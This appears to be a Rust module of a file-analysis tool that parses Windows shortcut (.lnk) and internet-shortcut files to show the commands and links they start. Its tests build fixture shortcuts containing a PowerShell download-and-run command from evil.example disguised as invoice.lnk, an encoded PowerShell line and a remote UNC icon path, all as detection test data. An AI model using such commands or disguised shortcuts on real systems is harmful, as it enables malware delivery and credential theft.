//! Shortcuts: what they start.
//!
//! Of a Windows shortcut ([MS-SHLLINK]) the strings are read, and the target that
//! an environment block gives; the list of shell items is not needed for that.

use super::{
    kind::FileKind,
    open::Open,
    report::{LinkSource, NoteKind},
    script::{self, printable, text_of},
};

/// Bytes of the header ([MS-SHLLINK] section 2.1).
const HEADER: usize = 0x4c;
/// Signature of the block that holds a target with environment variables.
const ENVIRONMENT: u32 = 0xa000_0001;

/// Reads a Windows or an internet shortcut.
pub(super) fn look(file: &mut Open<'_, '_>) {
    if file.report.kind == FileKind::Shortcut {
        windows(file);
    } else {
        internet(file);
    }
}

fn windows(file: &mut Open<'_, '_>) {
    let parts = Parts::of(file.bytes).unwrap_or_default();
    let mut command = parts.command();
    if command.is_empty() {
        // damaged, or built so that only Windows reads it: what words it has
        file.note(NoteKind::Corrupt, "shortcut without a target");
        let body = file.bytes.get(20..).unwrap_or_default();
        command = printable(body, 8_192).replace('\n', " ");
    }
    file.note(NoteKind::Shortcut, command.trim());
    if !parts.icon.is_empty() && parts.icon.contains("://") {
        file.link(LinkSource::Load, &parts.icon, "");
    }
    file.text(&command);
    script::examine(file, &command);
    // data hidden behind the structure
    let words = printable(file.bytes, file.run.limits.text);
    script::links(file, LinkSource::Script, &words);
}

/// The strings of a shortcut.
#[derive(Debug, Default)]
struct Parts {
    target: String,
    relative: String,
    arguments: String,
    icon: String,
    environment: String,
}

impl Parts {
    fn command(&self) -> String {
        let program = [&self.environment, &self.target, &self.relative]
            .into_iter()
            .find(|part| !part.is_empty())
            .map(String::as_str)
            .unwrap_or_default();
        format!("{program} {}", self.arguments).trim().to_owned()
    }

    /// Follows the structure as far as it holds.
    fn of(bytes: &[u8]) -> Option<Self> {
        let mut parts = Self::default();
        let flags = u32_at(bytes, 0x14)?;
        let wide = flags & 0x80 != 0;
        let mut rest = bytes.get(HEADER..)?;
        if flags & 1 != 0 {
            let length = u16_at(rest, 0)?;
            rest = rest.get(2 + usize::from(length)..)?;
        }
        if flags & 2 != 0 {
            let length = usize::try_from(u32_at(rest, 0)?).ok()?;
            let info = rest.get(..length)?;
            parts.target = location(info).unwrap_or_default();
            rest = rest.get(length.max(4)..)?;
        }
        for (flag, at) in [(0x04, 0), (0x08, 1), (0x10, 2), (0x20, 3), (0x40, 4)] {
            if flags & flag == 0 {
                continue;
            }
            let Some((text, tail)) = string(rest, wide) else {
                return Some(parts);
            };
            rest = tail;
            match at {
                1 => parts.relative = text,
                3 => parts.arguments = text,
                4 => parts.icon = text,
                _ => {}
            }
        }
        parts.environment = environment(rest).unwrap_or_default();
        Some(parts)
    }
}

/// The local path and its suffix, or the share, of a LinkInfo (section 2.3).
fn location(info: &[u8]) -> Option<String> {
    let flags = u32_at(info, 8)?;
    let text = |offset: usize| {
        let at = usize::try_from(u32_at(info, offset)?).ok()?;
        let tail = info.get(at..)?;
        Some(text_of(tail.split(|b| *b == 0).next()?))
    };
    let suffix = text(0x18).unwrap_or_default();
    if flags & 1 != 0 {
        return Some(text(0x10)? + &suffix);
    }
    let share = usize::try_from(u32_at(info, 0x14)?).ok()?;
    let network = info.get(share..)?;
    let name = usize::try_from(u32_at(network, 8)?).ok()?;
    let name = text_of(network.get(name..)?.split(|b| *b == 0).next()?);
    Some(format!("{name}\\{suffix}"))
}

/// A counted string (section 2.4), and what follows.
fn string(bytes: &[u8], wide: bool) -> Option<(String, &[u8])> {
    let count = usize::from(u16_at(bytes, 0)?);
    let length = if wide { count * 2 } else { count };
    let text = bytes.get(2..2 + length)?;
    let text = if wide { wide_text(text) } else { text_of(text) };
    Some((text, bytes.get(2 + length..)?))
}

/// The target of the environment block, found among the extra data (section 2.5).
fn environment(mut rest: &[u8]) -> Option<String> {
    for _ in 0..32 {
        let length = usize::try_from(u32_at(rest, 0)?).ok()?;
        if length < 8 {
            return None;
        }
        let block = rest.get(..length)?;
        if u32_at(block, 4)? == ENVIRONMENT {
            // 260 bytes narrow, 520 bytes wide
            let target = wide_text(block.get(8 + 260..)?);
            return Some(target.split('\0').next()?.to_owned());
        }
        rest = rest.get(length..)?;
    }
    None
}

fn wide_text(bytes: &[u8]) -> String {
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .filter_map(|pair| pair.try_into().ok().map(u16::from_le_bytes))
        .collect();
    String::from_utf16_lossy(&units)
}

fn u16_at(bytes: &[u8], at: usize) -> Option<u16> {
    let two = bytes.get(at..at.checked_add(2)?)?;
    two.try_into().ok().map(u16::from_le_bytes)
}

fn u32_at(bytes: &[u8], at: usize) -> Option<u32> {
    let four = bytes.get(at..at.checked_add(4)?)?;
    four.try_into().ok().map(u32::from_le_bytes)
}

/// `.url`, `.webloc` and `.desktop`: lines or XML with a target.
fn internet(file: &mut Open<'_, '_>) {
    let text = text_of(file.bytes);
    for line in text.lines().take(2_000) {
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let value = value.trim();
        match key.trim().to_ascii_lowercase().as_str() {
            "url" | "baseurl" => file.link(LinkSource::Click, value, ""),
            "iconfile" | "icon" if value.contains("://") || value.starts_with("\\\\") => {
                file.link(LinkSource::Load, value, "");
            }
            "exec" | "workingdirectory" => {
                file.note(NoteKind::Shortcut, value);
                script::examine(file, value);
            }
            _ => {}
        }
    }
    if text.contains("<plist") {
        for part in text.split("<string>").skip(1).take(100) {
            let target = part.split("</string>").next().unwrap_or_default();
            file.link(LinkSource::Click, &target.replace("&amp;", "&"), "");
        }
    }
    script::links(file, LinkSource::Click, &text);
    let detail = file
        .report
        .links
        .first()
        .map(|link| link.target.exposed().clone());
    if let Some(detail) = detail {
        file.note(NoteKind::Shortcut, &detail);
    }
}

#[cfg(test)]
mod tests {
    use super::super::{
        picture::tests::{links, notes, report},
        report::{LinkSource, NoteKind},
    };

    fn wide(text: &str) -> Vec<u8> {
        let units: Vec<u16> = text.encode_utf16().collect();
        let mut out = u16::try_from(units.len()).unwrap().to_le_bytes().to_vec();
        out.extend(units.iter().flat_map(|u| u.to_le_bytes()));
        out
    }

    fn header(flags: u32) -> Vec<u8> {
        let mut lnk = vec![
            0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
        ];
        lnk.extend(flags.to_le_bytes());
        lnk.resize(0x4c, 0);
        lnk
    }

    #[test]
    fn a_shortcut_shows_its_command_line_and_its_links() {
        let mut lnk = header(0x80 | 0x08 | 0x20 | 0x40);
        lnk.extend(wide("..\\..\\Windows\\System32\\cmd.exe"));
        lnk.extend(wide("/c powershell iwr https://evil.example/a.ps1 | iex"));
        lnk.extend(wide("C:\\Program Files\\Adobe\\reader.ico"));
        lnk.extend(0x314u32.to_le_bytes());
        lnk.extend(0xa000_0001u32.to_le_bytes());
        lnk.resize(lnk.len() + 260, 0);
        let target: Vec<u8> = "%windir%\\system32\\cmd.exe"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let end = lnk.len() + 520;
        lnk.extend(target);
        lnk.resize(end, 0);
        let report = report(lnk, "invoice.lnk", "application/octet-stream");
        let note = &report.notes[0];
        assert_eq!(note.kind, NoteKind::Shortcut);
        assert_eq!(
            note.detail.exposed(),
            "%windir%\\system32\\cmd.exe /c powershell iwr https://evil.example/a.ps1 | iex"
        );
        assert_eq!(
            links(&report),
            [(LinkSource::Script, "https://evil.example/a.ps1".to_owned())]
        );
    }

    #[test]
    fn a_damaged_shortcut_still_shows_its_words() {
        let mut lnk = header(0);
        lnk.truncate(20);
        lnk.extend(b"powershell -enc AAAA");
        lnk.resize(200, 0);
        let report = report(lnk, "a.lnk", "");
        assert!(notes(&report).contains(&NoteKind::Shortcut));
        assert!(
            report
                .notes
                .iter()
                .any(|n| n.detail.exposed().contains("powershell -enc AAAA"))
        );
    }

    #[test]
    fn internet_shortcuts_lead_to_their_target() {
        let url = b"[InternetShortcut]\r\nURL=file://evil.example@80/share/a.vbs\r\nIconFile=\\\\evil.example\\i.ico\r\n";
        assert_eq!(
            links(&report(url.to_vec(), "a.url", "")),
            [
                (
                    LinkSource::Click,
                    "file://evil.example@80/share/a.vbs".to_owned()
                ),
                (LinkSource::Load, "\\\\evil.example\\i.ico".to_owned())
            ]
        );
        let webloc = b"<plist><dict><key>URL</key><string>https://a.example/?a=1&amp;b=2</string></dict></plist>";
        assert!(
            links(&report(webloc.to_vec(), "a.webloc", ""))
                .contains(&(LinkSource::Click, "https://a.example/?a=1&b=2".to_owned()))
        );
    }
}
